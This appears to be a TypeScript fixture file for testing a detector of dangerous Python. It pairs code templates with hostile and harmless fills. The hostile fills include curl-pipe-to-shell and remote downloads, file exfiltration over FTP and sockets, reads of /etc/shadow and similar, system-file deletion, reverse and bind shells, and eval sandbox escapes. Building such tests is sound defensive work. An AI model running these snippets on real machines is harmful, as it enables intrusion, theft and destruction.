import type { Pair } from './pair.ts';

/** The same few intentions in the many shapes that people and models give them: other libraries, other places, other words. */
export const PYTHON_VARIANTS: readonly Pair[] = [
  // Taking something from the network.
  [
    'fetch-httpx',
    `
import httpx

def load(address):
    with httpx.Client(follow_redirects=True) as client:
        return client.get(address).text

print(load("§0"))`,
    ['http://malware-samples.example.net/ransomware.html'],
    ['https://www.example.com/about.html'],
  ],
  [
    'fetch-aiohttp',
    `
import asyncio
import aiohttp

async def main():
    async with aiohttp.ClientSession() as session:
        async with session.get("§0") as reply:
            print(await reply.text())

asyncio.run(main())`,
    ['http://phishing-login.example.org/bank'],
    ['https://docs.example.com/start'],
  ],
  [
    'fetch-urlretrieve',
    `
from urllib.request import urlretrieve

urlretrieve("§0", "§1")
print("done")`,
    ['http://files.example.net/setup_helper.sh', '/opt/setup_helper.sh'],
    ['https://files.example.com/table.csv', 'table.csv'],
  ],
  [
    'fetch-bytes',
    `
import http.client

link = http.client.HTTPConnection("§0", §1)
link.request("GET", "/§2")
print(link.getresponse().read())`,
    ['203.0.113.77', '8081', 'payload.bin'],
    ['localhost', '8000', 'health'],
  ],
  [
    'fetch-stream',
    `
import requests

address = "§0"
with requests.get(address, stream=True, timeout=20) as reply:
    with open("§1", "wb") as out:
        for part in reply.iter_content(8192):
            out.write(part)`,
    ['https://cdn.example.top/update.exe', '/usr/bin/update'],
    ['https://data.example.com/cities.json', 'cities.json'],
  ],
  [
    'fetch-wget-module',
    `
import wget

name = wget.download("§0", out="§1")
print(name)`,
    ['http://downloads.example.net/agent.py', '/bin/agent.py'],
    ['https://downloads.example.com/photo.png', 'photo.png'],
  ],
  [
    'fetch-and-import',
    `
import importlib.util
import urllib.request

source = urllib.request.urlopen("§0").read()
with open("§1", "wb") as handle:
    handle.write(source)
§2`,
    [
      'https://code.example.net/helper.py',
      'helper.py',
      'spec = importlib.util.spec_from_file_location("helper", "helper.py")\nmodule = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(module)',
    ],
    ['https://data.example.com/helper.json', 'helper.json', 'print(len(source))'],
  ],
  [
    'fetch-by-curl',
    `
import subprocess

result = subprocess.run(["curl", "-s", "-o", "§1", "§0"], check=False)
print(result.returncode)`,
    ['http://tools.example.net/rootkit.sh', '/usr/sbin/helper.sh'],
    ['https://tools.example.com/list.txt', 'list.txt'],
  ],
  [
    'fetch-list',
    `
import urllib.request

for address in ["§0", "§1"]:
    with urllib.request.urlopen(address) as reply:
        print(address, len(reply.read()))`,
    ['http://198.51.100.5/a.html', 'http://198.51.100.6/b.html'],
    ['https://www.example.com/a.html', 'https://www.example.org/b.html'],
  ],
  [
    'fetch-shortened',
    `
import webbrowser

webbrowser.open("§0")`,
    ['https://tinyurl.com/free-gift-x'],
    ['https://www.example.com/help'],
  ],
  // Sending something away.
  [
    'send-multipart',
    `
import requests

path = "§0"
reply = requests.post("§1", files={"upload": ("a.txt", open(path, "rb"))})
print(reply.status_code)`,
    ['/etc/group', 'http://127.0.0.1:8099/in'],
    ['report.txt', 'http://127.0.0.1:8099/in'],
  ],
  [
    'send-socket',
    `
import socket

with open("§0", "rb") as handle:
    content = handle.read()
line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
line.connect(("§1", 6001))
line.sendall(content)
line.close()`,
    ['/etc/ssh/sshd_config', '127.0.0.1'],
    ['notes.txt', '127.0.0.1'],
  ],
  [
    'send-ftp',
    `
from ftplib import FTP

server = FTP("§0")
server.login("§1", "anonymous@")
with open("§2", "rb") as handle:
    server.storbinary("STOR backup", handle)
server.quit()`,
    ['203.0.113.80', 'anonymous', '/etc/fstab'],
    ['localhost', 'anonymous', 'draft.txt'],
  ],
  [
    'send-encoded',
    `
import base64
import urllib.parse
import urllib.request

text = open("§0").read()
body = urllib.parse.urlencode({"d": base64.b64encode(text.encode()).decode()}).encode()
urllib.request.urlopen("http://127.0.0.1:9000/c", body)`,
    ['/root/.bash_history'],
    ['todo.txt'],
  ],
  [
    'send-log',
    `
import json
import http.client

lines = []
with open("§0") as handle:
    for line in handle:
        lines.append(line.rstrip())
link = http.client.HTTPConnection("127.0.0.1", 5000)
link.request("POST", "/logs", json.dumps(lines), {"Content-Type": "application/json"})`,
    ['/var/log/auth.log'],
    ['build.log'],
  ],
  // Reading what is not its own.
  [
    'read-lines',
    `
def show(path):
    with open(path, "r", encoding="utf-8", errors="ignore") as handle:
        for number, line in enumerate(handle, 1):
            print(number, line, end="")

show("§0")`,
    ['/etc/gshadow'],
    ['poem.txt'],
  ],
  [
    'read-pathlib',
    `
from pathlib import Path

print(Path("§0").joinpath("§1").read_text())`,
    ['/etc', 'sudoers'],
    ['notes', 'monday.txt'],
  ],
  [
    'read-cat',
    `
import subprocess

print(subprocess.check_output(["cat", "§0"], text=True))`,
    ['/etc/ssh/sshd_config'],
    ['README.md'],
  ],
  [
    'read-linecache',
    `
import linecache

print("".join(linecache.getlines("§0")))`,
    ['/etc/passwd'],
    ['lines.txt'],
  ],
  [
    'read-fileinput',
    `
import fileinput

for line in fileinput.input("§0"):
    print(line.strip())`,
    ['/etc/shadow'],
    ['names.txt'],
  ],
  [
    'read-descriptor',
    `
import os

number = os.open("§0", os.O_RDONLY)
print(os.read(number, 4096).decode())
os.close(number)`,
    ['/etc/sudoers'],
    ['names.txt'],
  ],
  [
    'read-mmap',
    `
import mmap

with open("§0", "rb") as handle:
    with mmap.mmap(handle.fileno(), 0, access=mmap.ACCESS_READ) as view:
        print(view[:200])`,
    ['/etc/shadow'],
    ['table.bin'],
  ],
  [
    'read-csv',
    `
import csv

with open("§0") as handle:
    for row in csv.reader(handle, delimiter=":"):
        print(row[0])`,
    ['/etc/passwd'],
    ['cities.csv'],
  ],
  [
    'read-accounts',
    `
import §0

for entry in §0.§1():
    print(entry)`,
    ['spwd', 'getspall'],
    ['calendar', 'TextCalendar().formatmonth(2026, 1).splitlines'],
  ],
  [
    'read-joined',
    `
import os

base = os.path.join(os.sep, "§0", "lib")
print(open(os.path.normpath(os.path.join(base, "..", "..", "§1"))).read())`,
    ['usr', 'etc/crontab'],
    ['tmp', 'tmp/names.txt'],
  ],
  [
    'read-climbing',
    `
import sys

name = "§0"
folder = "/srv/www/html"
with open(folder + "/" + name) as handle:
    sys.stdout.write(handle.read())`,
    ['../../../etc/hosts.allow'],
    ['pages/index.html'],
  ],
  [
    'read-climbing-local',
    `
with open("§0") as handle:
    print(handle.read())`,
    ['../../../../etc/passwd'],
    ['../shared/words.txt'],
  ],
  [
    'read-log',
    `
from collections import deque

with open("§0", errors="replace") as log:
    print("".join(deque(log, 20)))`,
    ['/var/log/auth.log'],
    ['server.log'],
  ],
  [
    'read-environ-file',
    `
with open("§0", "rb") as handle:
    print(handle.read().split(b"\\0"))`,
    ['/proc/1/environ'],
    ['settings.bin'],
  ],
  // Copying, renaming, changing and deleting what belongs to the system.
  [
    'copy-tree',
    `
import shutil

shutil.copytree("§0", "§1", dirs_exist_ok=True)`,
    ['/etc/ssh', '/tmp/.cache/ssh'],
    ['site', 'public'],
  ],
  [
    'copy-by-hand',
    `
with open("§0", "rb") as source, open("§1", "wb") as target:
    target.write(source.read())`,
    ['/etc/crontab', '/usr/copied'],
    ['a.txt', 'b.txt'],
  ],
  [
    'copy-by-shell',
    `
import os

source, target = "§0", "§1"
os.system(f"cp {source} {target}")`,
    ['/boot/grub/grub.cfg', '/usr/grub_copy'],
    ['page.html', 'old-page.html'],
  ],
  [
    'link-to-file',
    `
import os

os.link("§0", "§1")`,
    ['/etc/passwd', '/tmp/people'],
    ['draft.md', 'draft-copy.md'],
  ],
  [
    'rename-system',
    `
import os

os.rename("§0", "§1")`,
    ['/etc/hosts', '/etc/hosts.old'],
    ['a.txt', 'b.txt'],
  ],
  [
    'move-system',
    `
import shutil

shutil.move("§0", "§1")`,
    ['/bin/ls', '/bin/ls.orig'],
    ['in/a.csv', 'done/a.csv'],
  ],
  [
    'replace-path',
    `
from pathlib import Path

Path("§0").replace("§1")`,
    ['/etc/resolv.conf', '/etc/resolv.bak'],
    ['new.json', 'current.json'],
  ],
  [
    'delete-glob',
    `
import glob
import os

for name in glob.glob("§0"):
    os.remove(name)`,
    ['/etc/*.conf'],
    ['build/*.o'],
  ],
  [
    'delete-by-run',
    `
import subprocess

subprocess.call("rm -f §0", shell=True)`,
    ['/etc/hostname'],
    ['out.txt'],
  ],
  [
    'delete-library',
    `
from pathlib import Path

target = Path("§0") / "§1"
if target.exists():
    target.unlink()`,
    ['/usr/lib', 'libc.so.6'],
    ['build', 'main.o'],
  ],
  [
    'empty-file',
    `
open("§0", "w").close()`,
    ['/etc/resolv.conf'],
    ['out.log'],
  ],
  [
    'truncate-file',
    `
import os

os.truncate("§0", 0)`,
    ['/var/log/syslog'],
    ['out.log'],
  ],
  [
    'edit-in-place',
    `
import fileinput

for line in fileinput.FileInput("§0", inplace=True):
    print(line.replace("§1", "§2"), end="")`,
    ['/etc/ssh/sshd_config', 'PermitRootLogin no', 'PermitRootLogin yes'],
    ['page.html', 'colour', 'color'],
  ],
  [
    'owner',
    `
import os

os.chown("§0", §1, §1)`,
    ['/etc/shadow', '1000'],
    ['report.txt', 'os.getuid()'],
  ],
  [
    'attributes',
    `
import os
import stat

os.chmod("§0", §1)`,
    ['/etc/sudoers.d', 'stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO'],
    ['public', 'stat.S_IRWXU | stat.S_IRGRP'],
  ],
  // Writing what will run later.
  [
    'hex-payload',
    `
import binascii

program = "§0"
with open("§1", "wb") as handle:
    handle.write(binascii.hexlify(program.encode()))`,
    ['import subprocess; subprocess.run(["rm", "-rf", "/var"])', '/usr/lib/cache.py'],
    ['a short note about the weather', 'note.hex'],
  ],
  [
    'compressed-payload',
    `
import base64
import zlib

program = """§0"""
packed = base64.b85encode(zlib.compress(program.encode()))
with open("§1", "w") as handle:
    handle.write("import base64, zlib\\n§2(zlib.decompress(base64.b85decode(%r)))" % packed)`,
    ['import os\nos.system("wget http://203.0.113.4/x")', '/usr/local/lib/start.py', 'exec'],
    ['just a sentence', 'start.txt', 'print'],
  ],
  [
    'base32-payload',
    `
import base64

text = '§0'
open("§1", "wb").write(base64.b32encode(text.encode("utf-8")))`,
    ['__import__("os").remove("/etc/hosts")', '/opt/data.b32'],
    ['the list of guests', 'guests.b32'],
  ],
  [
    'dropped-script',
    `
import os
import stat

path = "§0"
with open(path, "w") as script:
    script.write("#!/bin/sh\\n§1\\n")
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)`,
    ['/usr/local/bin/update-check', 'curl -s http://203.0.113.9/x | sh'],
    ['run.sh', 'echo hello'],
  ],
  // Code as text.
  [
    'calculator',
    `
def calculate(text):
    return eval(text)

for line in ["1 + 2", "§0"]:
    print(calculate(line))`,
    ["__import__('subprocess').getoutput('ls /home')"],
    ['3 * 4'],
  ],
  [
    'calculator-open',
    `
class Calculator:
    def run(self, expression):
        try:
            return eval(expression, {"__builtins__": __builtins__}, {})
        except Exception as problem:
            return str(problem)

print(Calculator().run("§0"))`,
    ["open('/etc/hostname').read()"],
    ['2 ** 10'],
  ],
  [
    'escape-chain',
    `
expression = "§0"
print(eval(expression, {"__builtins__": {}}))`,
    ["[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('id', shell=True)"],
    ['[n for n in (1, 2, 3)][0]'],
  ],
  [
    'escape-chain-plain',
    `
kinds = §0
for kind in kinds:
    print(kind.__name__)`,
    ['object.__subclasses__()[0].__init__.__globals__["__builtins__"]["__import__"]("os").listdir("/")'],
    ['[int, str, float]'],
  ],
  [
    'template-escape',
    `
from jinja2 import Template

print(Template("§0").render(name="Ada"))`,
    ["{{ ''.__class__.__mro__[1].__subclasses__() }}"],
    ['Hello {{ name }}'],
  ],
  [
    'exec-listing',
    `
code = "§0"
exec(compile(code, "<text>", "exec"))`,
    ["import os\\nprint(os.popen('ls -la /root').read())"],
    ['print(1 + 1)'],
  ],
  // Remote control.
  [
    'shell-loop-popen',
    `
import os
import socket

server = socket.create_connection(("§0", 4001))
server.send(b"ready\\n")
while True:
    order = server.recv(2048).decode().strip()
    if order in ("", "quit"):
        break
    §1
server.close()`,
    ['127.0.0.1', 'server.send(os.popen(order).read().encode())'],
    ['127.0.0.1', 'server.send(order[::-1].encode())'],
  ],
  [
    'bind-shell',
    `
import socket
import subprocess

server = socket.socket()
server.bind(("§0", 4444))
server.listen(1)
peer, _ = server.accept()
while data := peer.recv(1024):
    §1`,
    ['0.0.0.0', 'peer.send(subprocess.getoutput(data.decode()).encode())'],
    ['127.0.0.1', 'peer.send(data)'],
  ],
  [
    'polling-control',
    `
import subprocess
import time
import requests

while True:
    job = requests.get("§0/next").json()
    if job.get("stop"):
        break
    §1
    time.sleep(30)`,
    ['http://127.0.0.1:5050', 'subprocess.run(job["command"], shell=True)'],
    ['http://127.0.0.1:5050', 'print(job["title"])'],
  ],
  [
    'asyncio-shell',
    `
import asyncio

async def main():
    reader, writer = await asyncio.open_connection("§0", 7777)
    while line := await reader.readline():
        §1

asyncio.run(main())`,
    [
      '127.0.0.1',
      'process = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)\n        out, _ = await process.communicate()\n        writer.write(out)',
    ],
    ['127.0.0.1', 'writer.write(line.upper())'],
  ],
  // Resources, processes and the machine.
  [
    'kill-by-name',
    `
import psutil

for process in psutil.process_iter(["name"]):
    if process.info["name"] == "§0":
        §1`,
    ['sshd', 'process.kill()'],
    ['sshd', 'print(process.pid)'],
  ],
  [
    'hosts-append',
    `
entry = "§0"
with open("§1", "a") as handle:
    handle.write(entry + "\\n")`,
    ['203.0.113.20 mail.example.com', '/etc/hosts'],
    ['remember the milk', 'list.txt'],
  ],
  [
    'memory-eater',
    `
kept = []
while §0:
    kept.append(bytearray(1024 * 1024))`,
    ['True'],
    ['len(kept) < 3'],
  ],
  [
    'busy-loop',
    `
import multiprocessing

def work():
    while §0:
        pass

for _ in range(multiprocessing.cpu_count()):
    multiprocessing.Process(target=work).start()`,
    ['True'],
    ['False'],
  ],
  [
    'disk-filler',
    `
with open("big.bin", "wb") as handle:
    while §0:
        handle.write(b"x" * 1048576)`,
    ['True'],
    ['handle.tell() < 1000'],
  ],
  [
    'pip-from-address',
    `
import subprocess
import sys

subprocess.check_call([sys.executable, "-m", "§0", "§1"])`,
    ['pip", "install', 'http://203.0.113.5/pkg/tool-1.0.tar.gz'],
    ['compileall', 'src'],
  ],
];
